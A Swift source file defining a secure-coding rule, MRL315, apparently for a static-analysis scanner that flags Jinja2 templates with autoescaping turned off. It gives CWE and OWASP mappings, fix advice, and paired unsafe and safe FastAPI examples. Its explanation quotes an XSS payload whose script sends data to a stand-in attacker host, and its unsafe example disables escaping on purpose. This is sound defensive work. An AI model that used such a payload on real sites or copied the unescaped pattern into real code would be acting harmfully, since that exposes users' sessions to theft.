import MerlonBase

extension Weakness {
  /// HTML is rendered by a template engine that does not escape values.
  package static let templateAutoescapeDisabled = Weakness(
    id: "MRL315", name: "template-autoescape-disabled", severity: .high, cwe: [79, 116],
    owasp: [.api2023(8), .web2021(3)], asvs: ["1.2.1"], practices: ["S4", "S41"], since: "0.1.0",
    summary: "HTML is rendered by a template engine that does not escape values",
    why: """
      `jinja2.Environment` escapes nothing unless `autoescape` is set. A name such as \
      `<script>fetch("//evil.example/"+…)</script>` is then part of the page and runs in every reader's browser with \
      that reader's session. `jinja2.Template(…)` has the same default. Starlette's `Jinja2Templates(directory=…)` \
      turns escaping on for HTML. Environments that make mail texts, prompts, configuration or code need no HTML \
      escaping, and are harmless.
      """,
    guide: [
      """
      Make the environment with `autoescape=select_autoescape()`, or use `Jinja2Templates(directory="templates")`.
      """,
      """
      Mark single values as safe only where your own code made the HTML (`Markup`), and never with `|safe` on stored \
      text.
      """,
      "Add a Content-Security-Policy without `'unsafe-inline'` as a second wall.",
    ],
    unsafe: Example(
      """
      from fastapi import FastAPI
      from fastapi.responses import HTMLResponse
      from jinja2 import Environment, FileSystemLoader

      app = FastAPI()
      pages = Environment(loader=FileSystemLoader("templates"), autoescape=False)  # expect: MRL315


      @app.get("/hello/{name}", response_class=HTMLResponse)
      def hello(name: str) -> str:
          return pages.get_template("hello.html").render(name=name)
      """),
    safe: Example(
      """
      from fastapi import FastAPI
      from fastapi.responses import HTMLResponse
      from jinja2 import Environment, FileSystemLoader, select_autoescape

      app = FastAPI()
      pages = Environment(loader=FileSystemLoader("templates"), autoescape=select_autoescape())


      @app.get("/hello/{name}", response_class=HTMLResponse)
      def hello(name: str) -> str:
          return pages.get_template("hello.html").render(name=name)
      """),
    references: [
      "https://cwe.mitre.org/data/definitions/79.html",
      "https://jinja.palletsprojects.com/en/stable/api/",
      "https://cheatsheetseries.owasp.org/cheatsheets/Cross_Site_Scripting_Prevention_Cheat_Sheet.html",
    ])
}
